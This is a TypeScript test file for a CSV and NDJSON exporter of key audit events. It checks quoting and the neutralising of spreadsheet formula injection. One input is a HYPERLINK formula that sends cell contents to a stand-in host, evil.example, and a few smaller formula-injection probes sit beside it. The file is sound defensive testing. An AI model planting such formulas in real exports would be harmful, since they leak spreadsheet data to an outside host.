import { describe, expect, it } from "vitest";

import { csvCell, eventFormats } from "@/server/history/event-formats";
import type { KeyEvent } from "@/server/shared/key-event";

const event: KeyEvent = {
  id: "01a21d9a-03ca-76ed-a5a4-34e3986ba9b6",
  at: new Date("2026-01-02T03:04:05.678Z"),
  action: "key.renamed",
  keyId: "key_01a21d9a-03ca-76ed-a5a4-34e3986ba9b6",
  keyName: "Build",
  actor: { kind: "user", id: "user_1", impersonatedBy: "user_2" },
  detail: { from: 'a "b", c', to: "Build" },
};

describe("a cell of the CSV", () => {
  it.each([
    ["plain", "plain"],
    ["", ""],
    ["a,b", '"a,b"'],
    ['say "hi"', '"say ""hi"""'],
    ["two\nlines", '"two\nlines"'],
    ["two\r\nlines", '"two\r\nlines"'],
    [" padded ", " padded "],
    ["ključ 🔑", "ključ 🔑"],
  ])("of %j is quoted as RFC 4180 says: %j", (text, cell) => {
    expect(csvCell(text)).toBe(cell);
  });

  it.each([
    ['=HYPERLINK("https://evil.example/?"&A1,"Open")', `"'=HYPERLINK(""https://evil.example/?""&A1,""Open"")"`],
    ["+1+1", "'+1+1"],
    ["-2+3", "'-2+3"],
    ["@SUM(A1)", "'@SUM(A1)"],
    ["\t=1+1", "'\t=1+1"],
    ["\r=1+1", `"'\r=1+1"`],
    ["=", "'="],
    ["=1,2", `"'=1,2"`],
  ])("of %j is text and no formula: %j", (text, cell) => {
    expect(csvCell(text)).toBe(cell);
  });

  it.each(["a=1", "1-2", "a@b", "'=1"])("of %j stays as it is, since it is no formula", (text) => {
    expect(csvCell(text)).toBe(text);
  });
});

describe("an event", () => {
  it("is a line of CSV, ended by CRLF, with the columns that the head names", () => {
    const { head, line } = eventFormats.csv;
    expect(head).toBe("id,at,action,keyId,keyName,actorKind,actorId,impersonatedBy,detail\r\n");
    expect(line(event)).toBe(
      `${event.id},2026-01-02T03:04:05.678Z,key.renamed,key_${event.id},Build,user,user_1,user_2,` +
        '"{""from"":""a \\""b\\"", c"",""to"":""Build""}"\r\n',
    );
  });

  it("without a key and without a person has empty cells", () => {
    const closed: KeyEvent = {
      ...{ id: event.id, at: event.at, action: "owner.closed", keyId: null, keyName: null },
      ...{ actor: { kind: "clerk", id: null }, detail: {} },
    };
    expect(eventFormats.csv.line(closed)).toBe(`${event.id},2026-01-02T03:04:05.678Z,owner.closed,,,clerk,,,{}\r\n`);
  });

  it("is a line of JSON that reads back as the event", () => {
    const text = eventFormats.ndjson.line({ ...event, keyName: "two\nlines\u2028" });
    expect(text.slice(0, -1)).not.toContain("\n");
    expect(JSON.parse(text)).toEqual({ ...event, at: event.at.toISOString(), keyName: "two\nlines\u2028" });
  });
});
